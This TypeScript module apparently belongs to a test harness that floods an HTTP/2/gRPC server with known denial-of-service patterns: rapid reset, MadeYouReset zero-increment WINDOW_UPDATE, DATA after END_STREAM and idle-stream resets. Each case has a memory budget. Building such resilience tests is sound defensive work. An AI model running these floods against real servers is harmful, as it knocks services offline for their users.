import { type Flood, flood } from "../../clients/flood.ts";
import { flags, frame, headerBlock, headers, reset, types, windowUpdate } from "../../clients/http2-frames.ts";
import { envelope, getFields, postFields, protoRequest, rpcPath } from "../../clients/requests.ts";
import type { Attack } from "../../harness/attack.ts";

const STREAMS = 100;

/** Bursts of streams; `one` writes the frames of a stream from its identifier. */
const each = (one: (stream: number) => Uint8Array): Pick<Flood, "burst" | "frames"> => ({
  frames: STREAMS,
  burst: (burst) => Buffer.concat(Array.from({ length: STREAMS }, (_, i) => one(2 * (burst * STREAMS + i) + 1))),
});

/** Streams that are begun and reset with a code. */
const rapidReset = (code?: number): Pick<Flood, "burst" | "frames"> =>
  each((stream) => Buffer.concat([headers(stream, get), reset(stream, code)]));

const get = headerBlock(getFields);
const call = headerBlock(postFields(rpcPath, "application/grpc"));

const wholeCall = (stream: number): Buffer =>
  Buffer.concat([
    headers(stream, call, flags.endHeaders),
    frame(types.data, flags.endStream, stream, envelope(protoRequest)),
  ]);

export const http2Resets: readonly Attack[] = [
  {
    name: "rapid reset",
    row: "H2-1",
    memory: 96,
    amplification: 1,
    run: (context) => flood(context, rapidReset()),
  },
  {
    name: "rapid reset from twenty addresses",
    row: "H2-1",
    memory: 128,
    run: (context) => flood(context, { ...rapidReset(), connections: 20, addresses: 20 }),
  },
  {
    name: "rapid reset without an error",
    row: "H2-1",
    memory: 96,
    amplification: 1,
    run: (context) => flood(context, rapidReset(0)),
  },
  {
    name: "RST_STREAM after a complete call",
    row: "H2-2",
    memory: 96,
    run: (context) =>
      flood(
        context,
        each((stream) => Buffer.concat([wholeCall(stream), reset(stream)])),
      ),
  },
  {
    name: "zero-increment WINDOW_UPDATE (MadeYouReset)",
    row: "H2-2",
    memory: 96,
    run: (context) =>
      flood(
        context,
        each((stream) => Buffer.concat([wholeCall(stream), windowUpdate(stream, 0)])),
      ),
  },
  {
    name: "DATA after END_STREAM",
    row: "H2-2",
    memory: 96,
    run: (context) =>
      flood(
        context,
        each((stream) => Buffer.concat([wholeCall(stream), frame(types.data, 0, stream, [0])])),
      ),
  },
  {
    name: "RST_STREAM on idle streams",
    row: "H2-5",
    memory: 64,
    run: (context) =>
      flood(
        context,
        each((stream) => reset(stream)),
      ),
  },
];
